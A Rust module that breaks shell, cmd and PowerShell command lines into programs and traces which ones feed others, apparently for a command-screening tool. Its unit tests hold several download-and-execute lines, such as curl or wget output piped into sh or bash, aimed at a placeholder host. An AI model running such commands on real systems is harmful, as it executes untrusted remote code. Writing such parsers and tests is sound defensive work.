//! Takes command lines apart: enough of sh, cmd and PowerShell to see which programs run and who
//! feeds whom.

mod quoted;
mod reader;

pub(crate) use quoted::command_lines;
use reader::{Redirect, Token, Word, tokens};

/// One program of a command line.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Step {
    /// The program's name: lower case, without its folder and `.exe`.
    pub(crate) program: String,
    /// The program as it was written.
    pub(crate) written: String,
    /// Its arguments, without quotes.
    pub(crate) arguments: Vec<String>,
    /// The files that its output goes to.
    pub(crate) outputs: Vec<String>,
    /// The programs before it whose output it reads.
    pub(crate) fed_by: Vec<String>,
    /// Everything from its first argument to the end of the text: scripts are not always quoted.
    pub(crate) tail: String,
}

impl Step {
    /// Whether one of the arguments is this one.
    pub(crate) fn has(&self, argument: &str) -> bool {
        self.arguments.iter().any(|it| it == argument)
    }

    /// Whether the programs run in this one are among its arguments, in this order.
    pub(crate) fn begins(&self, words: &[&str]) -> bool {
        let mut plain = self.arguments.iter().filter(|it| !it.starts_with('-'));
        words
            .iter()
            .all(|word| plain.next().is_some_and(|it| it == word))
    }

    /// The arguments as one text.
    pub(crate) fn line(&self) -> String {
        self.arguments.join(" ")
    }
}

/// How deep scripts in scripts are followed.
const DEEPEST: usize = 6;

/// The programs of a command line in order, those inside scripts and substitutions too.
pub(crate) fn steps(text: &str) -> Vec<Step> {
    let mut found = Vec::new();
    collect(text, &[], DEEPEST, &mut found);
    found
}

fn collect(text: &str, fed_by: &[String], depth: usize, found: &mut Vec<Step>) {
    let mut upstream = fed_by.to_vec();
    let mut words: Vec<Word> = Vec::new();
    for token in tokens(text) {
        match token {
            Token::Word(word) => words.push(word),
            Token::Pipe => {
                let names = finish(text, &mut words, &upstream, depth, found);
                upstream.extend(names);
            }
            Token::End => {
                finish(text, &mut words, &upstream, depth, found);
                upstream = fed_by.to_vec();
            }
        }
    }
    finish(text, &mut words, &upstream, depth, found);
}

/// Makes a step of the words and returns the names of the programs whose output it passes on.
fn finish(
    text: &str,
    words: &mut Vec<Word>,
    fed_by: &[String],
    depth: usize,
    found: &mut Vec<Step>,
) -> Vec<String> {
    let words = std::mem::take(words);
    let first = found.len();
    let Some(step) = step(text, &words, fed_by) else {
        return Vec::new();
    };
    if depth == 0 {
        return Vec::new();
    }
    let mut step = step;
    // What stands in `$(…)` runs first, and its output becomes part of this command.
    for inner in words.iter().flat_map(|word| &word.inner) {
        let start = found.len();
        collect(inner, &[], depth - 1, found);
        step.fed_by
            .extend(found[start..].iter().map(|step| step.program.clone()));
    }
    let script = script(&step);
    let step_fed_by = step.fed_by.clone();
    found.push(step);
    if let Some(script) = script {
        collect(&script, &step_fed_by, depth - 1, found);
    }
    found[first..]
        .iter()
        .map(|step| step.program.clone())
        .collect()
}

/// Programs that run the program named after their options.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "setsid", "exec", "command", "builtin", "time", "timeout",
    "nice", "ionice", "stdbuf", "xargs", "busybox", "start", "call", "then", "do", "else", "if",
    "while", "!", "{", "(", "&", "watch", "unbuffer", "chroot", "wsl",
];

fn step(text: &str, words: &[Word], fed_by: &[String]) -> Option<Step> {
    let mut outputs = Vec::new();
    let mut plain: Vec<&Word> = Vec::new();
    let mut words = words.iter();
    while let Some(word) = words.next() {
        match word.redirect {
            Some(Redirect::Out) => outputs.extend(words.next().map(|it| it.text.clone())),
            Some(Redirect::In) => drop(words.next()),
            None => plain.push(word),
        }
    }
    let mut at = 0;
    while let Some(word) = plain.get(at) {
        let is_assignment = word
            .text
            .split_once('=')
            .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(is_name));
        let is_wrapped = at > 0
            && WRAPPERS.contains(&name(&plain[at - 1].text).as_str())
            && (word.text.starts_with('-')
                || word.text.starts_with('/') && name(&plain[at - 1].text) == "start"
                || word.text.starts_with('/') && was_option(&plain, at)
                || word.text.starts_with(['"', '/']) && word.text.len() <= 2
                || word
                    .text
                    .chars()
                    .all(|it| it.is_ascii_digit() || matches!(it, 's' | 'm' | '.')));
        if is_assignment
            || is_wrapped
            || (WRAPPERS.contains(&name(&word.text).as_str()) && plain.len() > at + 1)
        {
            at += 1;
        } else {
            break;
        }
    }
    let program = plain.get(at)?;
    Some(Step {
        program: name(&program.text),
        written: program.text.clone(),
        arguments: plain[at + 1..].iter().map(|it| it.text.clone()).collect(),
        outputs,
        fed_by: fed_by.to_vec(),
        tail: text
            .get(program.end..)
            .unwrap_or_default()
            .trim()
            .to_owned(),
    })
}

/// Whether the word before is an option of `start` as well.
fn was_option(plain: &[&Word], at: usize) -> bool {
    let before = plain[..at].iter().rev();
    let mut before = before.skip_while(|word| word.text.starts_with('/') && word.text.len() > 2);
    before
        .next()
        .is_some_and(|word| name(&word.text) == "start")
}

fn is_name(character: char) -> bool {
    character.is_ascii_alphanumeric() || character == '_'
}

/// The plain name of a program: `/usr/bin/curl`, `C:\\…\\cmd.exe` and `c\\url` are known by it.
fn name(written: &str) -> String {
    let clean: String = written
        .chars()
        .filter(|it| !matches!(it, '"' | '\'' | '^' | '`'))
        .collect();
    let clean = clean
        .trim_start_matches(['(', '@', '&', '{'])
        .to_ascii_lowercase();
    let joined = clean.replace('\\', "");
    if SHELLS.contains(&joined.as_str()) || ["curl", "wget", "nc"].contains(&joined.as_str()) {
        return joined;
    }
    let base = clean.rsplit(['/', '\\']).next().unwrap_or(&clean);
    let base = base.strip_suffix(".exe").unwrap_or(base);
    base.to_owned()
}

/// Programs that run scripts given as text or input.
pub(crate) const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ash",
    "ksh",
    "fish",
    "csh",
    "tcsh",
    "cmd",
    "powershell",
    "pwsh",
    "rbash",
];

/// Whether the program is a shell.
pub(crate) fn is_shell(program: &str) -> bool {
    SHELLS.contains(&program)
}

/// Whether the program is a shell or another interpreter that reads a program from its input.
pub(crate) fn is_interpreter(program: &str) -> bool {
    let plain = program.trim_end_matches(|it: char| it.is_ascii_digit() || it == '.');
    SHELLS.contains(&plain)
        || [
            "python",
            "pythonw",
            "py",
            "pypy",
            "perl",
            "ruby",
            "node",
            "nodejs",
            "bun",
            "deno",
            "php",
            "lua",
            "tclsh",
            "osascript",
            "{python}",
        ]
        .contains(&plain)
        || ["source", ".", "eval", "iex", "invoke-expression"].contains(&program)
}

/// The script that a shell is given as text.
fn script(step: &Step) -> Option<String> {
    let flags: &[&str] = match step.program.as_str() {
        "cmd" => &["/c", "/k", "/r"],
        "powershell" | "pwsh" => &["-command", "-c", "/c", "/command", "-commandwithargs"],
        "eval" | "iex" | "invoke-expression" => return Some(step.line()),
        shell if SHELLS.contains(&shell) => &[
            "-c", "-lc", "-ic", "-ec", "-xc", "-exc", "-cl", "-ci", "-euxc", "-euc",
        ],
        "su" | "script" | "runuser" => &["-c"],
        _ => return None,
    };
    let place = step
        .arguments
        .iter()
        .position(|it| flags.contains(&it.to_ascii_lowercase().as_str()));
    match place {
        Some(place) => Some(step.arguments[place + 1..].join(" ")),
        None if matches!(step.program.as_str(), "powershell" | "pwsh") => {
            let first = step.arguments.iter().position(|it| !it.starts_with('-'))?;
            Some(step.arguments[first..].join(" "))
        }
        None => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn programs(text: &str) -> Vec<String> {
        steps(text)
            .into_iter()
            .map(|step| match step.fed_by.as_slice() {
                [] => step.program,
                fed_by => format!("{}<{}", step.program, fed_by.join("+")),
            })
            .collect()
    }

    #[test]
    fn pipes_tell_who_feeds_whom() {
        assert_eq!(
            programs("curl -s http://h.invalid/x | base64 -d | /bin/sh"),
            ["curl", "base64<curl", "sh<curl+base64"]
        );
        assert_eq!(
            programs("a || b && c; d & e\nf"),
            ["a", "b", "c", "d", "e", "f"]
        );
    }

    #[test]
    fn scripts_and_substitutions_are_followed() {
        for text in [
            "bash -c \"$(curl -fsSL http://h.invalid)\"",
            "bash <(curl -s http://h.invalid)",
            "eval `curl -s http://h.invalid`",
        ] {
            let steps = programs(text);
            assert_eq!(steps[0], "curl", "{text}");
            assert!(steps[1].ends_with("<curl"), "{steps:?}");
        }
        assert_eq!(
            programs("sh -c curl -s h.invalid | sh"),
            ["sh", "curl", "sh<sh+curl"]
        );
        assert_eq!(
            programs("sh -c 'wget -qO- h.invalid | bash'"),
            ["sh", "wget", "bash<wget"]
        );
        assert_eq!(
            programs("cmd.exe /C powershell -c ls"),
            ["cmd", "powershell", "ls"]
        );
    }

    #[test]
    fn programs_are_known_under_every_spelling() {
        for text in [
            "/usr/bin/curl x",
            "C:\\Windows\\System32\\CURL.EXE x",
            "c\\url x",
            "\"curl\" x",
            "sudo -n env A=1 curl x",
            "nohup timeout 5 curl x",
            "FOO=bar curl x",
        ] {
            assert_eq!(programs(text), ["curl"], "{text}");
        }
    }

    #[test]
    fn outputs_are_no_arguments() {
        let steps = steps("echo hi >> ~/.bashrc 2>&1 < /dev/null");
        assert_eq!(steps[0].outputs, ["~/.bashrc"]);
        assert_eq!(steps[0].arguments, ["hi"]);
    }

    #[test]
    fn no_text_is_too_broken() {
        let hostile = [
            "",
            "'",
            "\"$(",
            "$($($($($($($($($(",
            "|||&&&>>>",
            "a \\",
            "`",
            "é'ü\"",
            ">& <& >",
            "(((",
            ")))",
        ];
        for text in hostile {
            steps(text);
            steps(&text.repeat(50));
        }
    }
}
